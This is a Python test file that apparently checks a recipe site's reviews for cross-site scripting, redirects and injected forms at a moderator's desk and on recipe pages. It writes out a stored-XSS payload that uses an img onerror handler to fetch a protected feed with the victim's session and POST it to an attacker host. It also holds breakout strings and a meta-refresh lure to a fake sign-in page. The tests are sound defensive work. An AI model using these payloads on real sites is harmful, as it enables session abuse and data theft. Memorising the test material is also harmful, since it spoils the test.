import json

from ladle import finished, mark


def test_desk_takes_the_key(reviews, at_desk, attacker, flag):
    """A review can't fetch the feed key with Mona's session"""
    word = mark()
    there = f"{attacker.url}/{word}"
    send = f"t=>fetch('{there}',{{method:'POST',mode:'no-cors',body:t}})"
    code = f"fetch('/desk/feed').then(r=>r.text()).then({send})"
    reviews.write(1, body=f'Lovely.<img src="/nothing" onerror="{code}">')
    visit = at_desk()
    taken = [r for r in attacker.requests() if r.path == f"/{word}" and flag in r.text]
    assert not taken, (
        "Mona read a new review at her desk. What it held ran in her browser, opened /desk/feed with her session "
        f"and sent the feed key to {attacker.url}. Her cookie is HttpOnly; the script never needed it."
    )
    finished(visit)


def test_desk(payloads):
    """Nothing in a review runs at the desk: name, headline, text, many spellings"""
    ran = payloads.ran(payloads.desk, "text")
    assert not ran, f"At Mona's desk a review whose {ran[0]} is {ran[1]} runs as script in her session."


def test_desk_from_the_telephone(payloads):
    """Nothing in a review from the telephone application runs at the desk"""
    ran = payloads.ran(payloads.desk, "telephone")
    assert not ran, (
        f"A review sent through POST /api/recipes/3/reviews, whose {ran[0]} is {ran[1]}, runs as script at "
        "Mona's desk."
    )


def test_recipe_page(payloads):
    """Nothing in the name, the headline or the text of a review runs on the recipe's page"""
    for kind in ("text", "telephone"):
        ran = payloads.ran(payloads.page, kind)
        assert not ran, f"For every reader of /recipes/3, a review whose {ran[0]} is {ran[1]} runs as script."


def test_name_beside_the_picture(payloads):
    """The writer's name adds nothing to the picture or to the link beside it"""
    ran = payloads.ran(payloads.page, "name")
    assert not ran, (
        f"For every reader of /recipes/3, the writer's name {ran[1]} runs as script. It needs no < at all."
    )


def test_data_for_search_engines(payloads):
    """A review can't leave the data for search engines"""
    ran = payloads.ran(payloads.page, "facts")
    assert not ran, (
        f"On /recipes/3 a review whose {ran[0]} is {ran[1]!r} ends the block of data for search engines, "
        "and what follows runs."
    )


def test_website_breaks_out(payloads):
    """A writer's website does not leave its attribute"""
    ran = payloads.ran(payloads.desk, "website")
    assert not ran, f"At Mona's desk the writer's website {ran[1]} runs as script."
    ran = payloads.ran(payloads.page, "website")
    assert not ran, f"On the recipe's page the writer's website {ran[1]} runs as script."


def test_page_does_not_vanish(reviews, reading):
    """A review can't swallow the rest of the recipe's page"""
    reviews.write_shown(
        4, title="<!--<script>", body="<!-- <script> <textarea> <title>", author="<!--<script "
    )
    text = reading(4).text
    assert "lentils" in text and "Did you cook it?" in text, (
        "A review that holds <!--<script> makes the recipe's page disappear: the browser reads the page as script."
    )


def test_led_away_without_script(reviews, at_desk, reading, attacker):
    """A review can't take Mona or a reader to another site, script or not"""
    word = mark()
    page = attacker.serve(f"/{word}", "<!doctype html><title>Sign in</title><p>Your session is over.")
    text = f'<meta http-equiv="refresh" content="0;url={page}">'
    number = reviews.write(2, body=text, title=text)
    visit = at_desk()
    assert not [r for r in attacker.requests() if r.path == f"/{word}"], (
        f"A review that holds {text} takes Mona from her desk to {attacker.url}, without any script."
    )
    finished(visit)
    reviews.decide(number, "show")
    visit = reading(2)
    assert not [r for r in attacker.requests() if r.path == f"/{word}"], (
        f"A review that holds {text} takes every reader of the recipe to {attacker.url}, without any script."
    )
    finished(visit)


def test_no_elements_of_its_own(words):
    """A review can't put a form, a headline or an attribute of its own on a page"""
    assert words.desk.results[1] == 0, (
        "At Mona's desk a review adds elements or attributes of its own: a headline, and a form that sends what "
        "she types to another site."
    )
    assert words.page.results[1] == 0, (
        "On the recipe's page a review adds elements or attributes of its own, such as a form that sends what "
        "readers type to another site."
    )


def test_shown_as_typed(words):
    """Markup in a review is text: it can be read as it was typed"""
    assert words.numbers[0], (
        f"A review with the text {words.typed['text']} is refused. Reviews are plain text, and that is plain text."
    )
    for place, visit in (("at Mona's desk", words.desk), ("on the recipe's page", words.page)):
        for field, typed in words.typed.items():
            assert typed in visit.text, f"A review's {field} {typed} can't be read {place} as it was typed."


def test_old_review(words, secrets):
    """A review from years ago is text as well"""
    assert words.page.results[2] == 0, (
        "On /recipes/6 a review that was stored long ago still puts an element of its own on the page. "
        "What is in the database already has not become harmless."
    )
    assert f"<u id={secrets['old_mark']}>half</u>" in words.page.text, (
        "On /recipes/6 the old review's markup can't be read as it was typed."
    )


def test_websites(words):
    """A writer's website leads to a web page and to nothing else"""
    for place, visit in (("At Mona's desk", words.desk), ("On the recipe's page", words.page)):
        bad = [href for protocol, href in visit.results[0] if protocol not in ("http:", "https:")]
        assert not bad, (
            f"{place} the writer's website {json.dumps(bad[0])} is a link. Who clicks it runs what the writer likes."
        )
